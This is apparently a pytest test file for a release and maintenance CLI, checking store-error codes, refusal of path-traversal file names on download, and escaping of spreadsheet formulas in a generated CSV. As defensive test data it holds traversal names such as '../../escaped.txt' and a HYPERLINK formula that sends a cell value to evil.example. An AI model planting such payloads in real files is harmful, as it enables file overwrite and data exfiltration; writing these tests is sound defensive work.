"""Release reuse and download against a store that fails or lies (real CLI, local store)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from platform_factory import T1, build_repo, prepare, work_order


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    return build_repo(tmp_path / "repo")


def _codes(root: Path) -> dict[str, str]:
    import csv

    with (root / "maintenance-state" / "reason_catalog.csv").open() as fh:
        return {r["name"]: r["reason_code"] for r in csv.DictReader(fh)}


def _rows(r) -> dict:
    assert r.returncode == 0, r.stdout + r.stderr
    return {row["work_order_id"]: row for row in json.loads(r.stdout)["work_orders"]}


def test_run__a_failing_release_store_is_not_release_not_found(cli, repo):
    """Only a real not-found is RELEASE_NOT_FOUND; a store error reading the manifest
    (here: the asset is unreadable) is INTERNAL_ERROR, refunded by its own policy."""
    work_order(repo, T1, "P1aaaaaa", [{"module_id": "001", "purchase_release_artifacts": True}])
    prepare(cli, repo, {T1: 200})
    assert _rows(cli("run", "--json", cwd=repo))["P1aaaaaa"]["status"] == "COMPLETED"
    rel = repo / ".workmill" / "releases" / f"wo-{T1}-P1aaaaaa"
    manifest = rel / f"{T1}-P1aaaaaa-manifest.json".lower()
    manifest.unlink()
    manifest.mkdir()  # reading it fails with an OS error, not "no such file"
    tag = f"wo-{T1}-P1aaaaaa"
    work_order(repo, T1, "U1aaaaaa", [{"module_id": "001", "reuse_output_type": "release", "release_tag": tag}])  # fmt: skip
    work_order(repo, T1, "U2aaaaaa", [{"module_id": "001", "reuse_output_type": "release", "release_tag": f"wo-{T1}-Nonexist"}])  # fmt: skip
    rows = _rows(cli("run", "--json", cwd=repo))
    codes = _codes(repo)
    broken = rows["U1aaaaaa"]["modules"][0]
    assert broken["status"] == "FAILED"
    assert broken["reason_code"] == codes["INTERNAL_ERROR"]
    assert "release store error" in broken["message"]
    assert rows["U2aaaaaa"]["modules"][0]["reason_code"] == codes["RELEASE_NOT_FOUND"]


def test_release_download__refuses_file_names_that_leave_dir(cli, repo, tmp_path):
    tag = f"wo-{T1}-Zaaaaaaa"
    rel = repo / ".workmill" / "releases" / tag
    rel.mkdir(parents=True)
    prepare(cli, repo, {})
    for bad in ("../../escaped.txt", "/tmp/escaped-abs.txt", "..", "sub/dir.txt"):
        item = {
            "filename": bad,
            "module_id": "001",
            "module_version": "1.0.0",
            "item_id": "Aaaaaaaa",
            "source_name": "x.txt",
            "sha256": "0" * 64,
            "size_bytes": 1,
            "content_type": "text/plain",
        }
        doc = {
            "owning_tenant_id": T1,
            "work_order_id": "Zaaaaaaa",
            "release_tag": tag,
            "created_at": "2026-11-23T12:00:00Z",
            "items": [item],
        }
        (rel / f"{T1}-Zaaaaaaa-manifest.json".lower()).write_text(json.dumps(doc))
        out = tmp_path / "out" / "deep"
        r = cli("release", "download", tag, "--dir", str(out), cwd=repo)
        assert r.returncode == 1, (bad, r.stdout, r.stderr)
        assert "items.0.filename" in r.stderr and "Traceback" not in r.stderr, r.stderr
        assert len(r.stderr.strip().splitlines()) == 1
        assert not (tmp_path / "escaped.txt").exists() and not (tmp_path / "out" / "escaped.txt").exists()  # fmt: skip
        assert not out.exists() or not any(out.iterdir())


def test_maintenance__module_text_cannot_start_a_formula_in_csv(cli, repo):
    """A module author's name lands in module_registry.csv: it must not run as a formula."""
    spec_path = repo / "modules" / "001" / "module.yml"
    spec = json.loads(spec_path.read_text())
    spec["name"] = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    spec_path.write_text(json.dumps(spec))
    registry = repo / "maintenance-state" / "ids" / "module_registry.csv"
    registry.write_text(registry.read_text().replace("001,02,Gen,", "001,02,,"))  # take the spec's
    r = cli("maintenance", cwd=repo)
    assert r.returncode == 0, r.stdout + r.stderr
    import csv

    with (repo / "maintenance-state" / "ids" / "module_registry.csv").open(newline="") as fh:
        names = {row["module_id"]: row["name"] for row in csv.DictReader(fh)}
    assert names["001"] == "'" + spec["name"]
    assert not any(n.startswith(("=", "+", "-", "@", "\t", "\r")) for n in names.values())
